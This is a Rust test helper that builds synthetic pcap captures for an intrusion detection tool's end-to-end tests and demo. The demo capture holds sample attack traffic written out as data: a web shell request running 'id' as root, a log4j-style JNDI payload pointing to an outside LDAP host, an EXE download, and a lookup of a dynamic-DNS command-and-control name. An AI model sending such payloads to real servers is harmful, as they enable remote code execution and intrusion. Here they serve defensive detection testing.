//! Builders for the captures the end-to-end tests and the demo use: whole
//! TCP conversations (handshake, data, teardown), UDP exchanges and ICMP,
//! written as classic pcap with warden's own packet builder and writer.
#![allow(dead_code)]

// the namespace test bed runs the warden binary: integration tests only
// (the demo example shares the capture builders below)
#[cfg(test)]
#[macro_use]
pub mod netns;

use std::net::Ipv4Addr;
use std::path::Path;

use warden_capture::PcapWriter;
use warden_packet::{build, tcp_flags as f, Timestamp};

/// Frames with their capture times, in order.
#[derive(Default)]
pub struct Capture {
    pub frames: Vec<(Timestamp, Vec<u8>)>,
    clock_us: i64,
}

impl Capture {
    pub fn new(start_secs: i64) -> Self {
        Capture {
            frames: Vec::new(),
            clock_us: start_secs * 1_000_000,
        }
    }

    pub fn push(&mut self, frame: Vec<u8>) {
        self.clock_us += 1_000;
        let ts = Timestamp {
            secs: self.clock_us / 1_000_000,
            nanos: ((self.clock_us % 1_000_000) * 1000) as u32,
        };
        self.frames.push((ts, frame));
    }

    /// Advances the clock (for timeouts and thresholds).
    pub fn wait_secs(&mut self, secs: i64) {
        self.clock_us += secs * 1_000_000;
    }

    pub fn write(&self, path: &Path) {
        self.write_link(path, 1);
    }

    /// Writes the frames as a capture of pcap link type `dlt`.
    pub fn write_link(&self, path: &Path, dlt: u32) {
        let file = std::fs::File::create(path).expect("create capture");
        let mut w =
            PcapWriter::new(std::io::BufWriter::new(file), dlt, 65535).expect("pcap header");
        for (ts, frame) in &self.frames {
            w.write_packet(*ts, frame).expect("write packet");
        }
        w.flush().expect("flush");
    }
}

/// One TCP connection between a client and a server.
pub struct Tcp {
    pub client: Ipv4Addr,
    pub server: Ipv4Addr,
    pub cport: u16,
    pub sport: u16,
    cseq: u32,
    sseq: u32,
}

impl Tcp {
    pub fn new(client: [u8; 4], cport: u16, server: [u8; 4], sport: u16) -> Self {
        Tcp {
            client: client.into(),
            server: server.into(),
            cport,
            sport,
            cseq: 1000,
            sseq: 5000,
        }
    }

    pub fn handshake(&mut self, cap: &mut Capture) {
        cap.push(build::tcp_v4(
            self.client,
            self.server,
            self.cport,
            self.sport,
            self.cseq,
            0,
            f::SYN,
            b"",
        ));
        self.cseq += 1;
        cap.push(build::tcp_v4(
            self.server,
            self.client,
            self.sport,
            self.cport,
            self.sseq,
            self.cseq,
            f::SYN | f::ACK,
            b"",
        ));
        self.sseq += 1;
        cap.push(build::tcp_v4(
            self.client,
            self.server,
            self.cport,
            self.sport,
            self.cseq,
            self.sseq,
            f::ACK,
            b"",
        ));
    }

    pub fn send(&mut self, cap: &mut Capture, data: &[u8]) {
        cap.push(build::tcp_v4(
            self.client,
            self.server,
            self.cport,
            self.sport,
            self.cseq,
            self.sseq,
            f::PSH | f::ACK,
            data,
        ));
        self.cseq += data.len() as u32;
        cap.push(build::tcp_v4(
            self.server,
            self.client,
            self.sport,
            self.cport,
            self.sseq,
            self.cseq,
            f::ACK,
            b"",
        ));
    }

    /// Sends `data` to the server cut into pieces of the given sizes (the
    /// last piece takes the rest), acknowledged once at the end.
    pub fn send_split(&mut self, cap: &mut Capture, data: &[u8], sizes: &[usize]) {
        let mut at = 0;
        for (i, n) in sizes.iter().chain(std::iter::once(&usize::MAX)).enumerate() {
            if at >= data.len() {
                break;
            }
            let end = if i == sizes.len() {
                data.len()
            } else {
                (at + n.max(&1)).min(data.len())
            };
            let piece = &data[at..end];
            cap.push(build::tcp_v4(
                self.client,
                self.server,
                self.cport,
                self.sport,
                self.cseq,
                self.sseq,
                f::PSH | f::ACK,
                piece,
            ));
            self.cseq += piece.len() as u32;
            at = end;
        }
        cap.push(build::tcp_v4(
            self.server,
            self.client,
            self.sport,
            self.cport,
            self.sseq,
            self.cseq,
            f::ACK,
            b"",
        ));
    }

    /// Sends data to the server that is never acknowledged.
    pub fn send_unacked(&mut self, cap: &mut Capture, data: &[u8]) {
        cap.push(build::tcp_v4(
            self.client,
            self.server,
            self.cport,
            self.sport,
            self.cseq,
            self.sseq,
            f::PSH | f::ACK,
            data,
        ));
        self.cseq += data.len() as u32;
    }

    pub fn reply(&mut self, cap: &mut Capture, data: &[u8]) {
        cap.push(build::tcp_v4(
            self.server,
            self.client,
            self.sport,
            self.cport,
            self.sseq,
            self.cseq,
            f::PSH | f::ACK,
            data,
        ));
        self.sseq += data.len() as u32;
        cap.push(build::tcp_v4(
            self.client,
            self.server,
            self.cport,
            self.sport,
            self.cseq,
            self.sseq,
            f::ACK,
            b"",
        ));
    }

    pub fn close(&mut self, cap: &mut Capture) {
        cap.push(build::tcp_v4(
            self.client,
            self.server,
            self.cport,
            self.sport,
            self.cseq,
            self.sseq,
            f::FIN | f::ACK,
            b"",
        ));
        self.cseq += 1;
        cap.push(build::tcp_v4(
            self.server,
            self.client,
            self.sport,
            self.cport,
            self.sseq,
            self.cseq,
            f::FIN | f::ACK,
            b"",
        ));
        self.sseq += 1;
        cap.push(build::tcp_v4(
            self.client,
            self.server,
            self.cport,
            self.sport,
            self.cseq,
            self.sseq,
            f::ACK,
            b"",
        ));
    }
}

pub fn udp(cap: &mut Capture, src: [u8; 4], sport: u16, dst: [u8; 4], dport: u16, data: &[u8]) {
    cap.push(build::udp_v4(src.into(), dst.into(), sport, dport, data));
}

pub fn ping(cap: &mut Capture, src: [u8; 4], dst: [u8; 4], id: u16, seq: u16, data: &[u8]) {
    cap.push(build::icmp_v4_echo(src.into(), dst.into(), id, seq, data));
}

/// A DNS query for `name` (type A), as a UDP payload.
pub fn dns_query(id: u16, name: &str) -> Vec<u8> {
    let mut q = Vec::new();
    q.extend_from_slice(&id.to_be_bytes());
    q.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

/// The demo capture: a small office network's few minutes, with a handful
/// of things worth an alert.
pub fn demo_capture() -> Capture {
    let mut cap = Capture::new(1_767_225_600); // 2026-01-01T00:00:00Z
    let ws = [192, 168, 1, 20];
    let web = [198, 51, 100, 10];
    let dns = [192, 168, 1, 1];

    // A normal page load.
    let mut t = Tcp::new(ws, 49152, web, 80);
    t.handshake(&mut cap);
    t.send(
        &mut cap,
        b"GET /index.html HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
    );
    t.reply(
        &mut cap,
        b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhello world\n",
    );
    t.close(&mut cap);

    // A web shell answering `id` with root.
    let mut t = Tcp::new(ws, 49153, web, 8080);
    t.handshake(&mut cap);
    t.send(
        &mut cap,
        b"GET /cgi-bin/shell.cgi?cmd=id HTTP/1.1\r\nHost: www.example.test\r\n\r\n",
    );
    t.reply(
        &mut cap,
        b"HTTP/1.1 200 OK\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n",
    );
    t.close(&mut cap);

    // A log4j-style probe, then an EXE download on the same connection.
    let mut t = Tcp::new(ws, 49154, web, 80);
    t.handshake(&mut cap);
    t.send(
        &mut cap,
        b"GET /search?q=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: shop.example.test\r\n\r\n",
    );
    t.reply(&mut cap, b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode");
    t.close(&mut cap);

    // DNS lookups, one for a dynamic-DNS name.
    udp(
        &mut cap,
        ws,
        53001,
        dns,
        53,
        &dns_query(0x1234, "www.example.test"),
    );
    udp(
        &mut cap,
        ws,
        53002,
        dns,
        53,
        &dns_query(0x1235, "c2-box.duckdns.org"),
    );

    // Pings, one with a large payload.
    ping(&mut cap, ws, web, 7, 1, b"abcdefghijklmnopqrstuvwabcdefghi");
    ping(&mut cap, ws, web, 7, 2, &[0x41; 1200]);
    cap
}
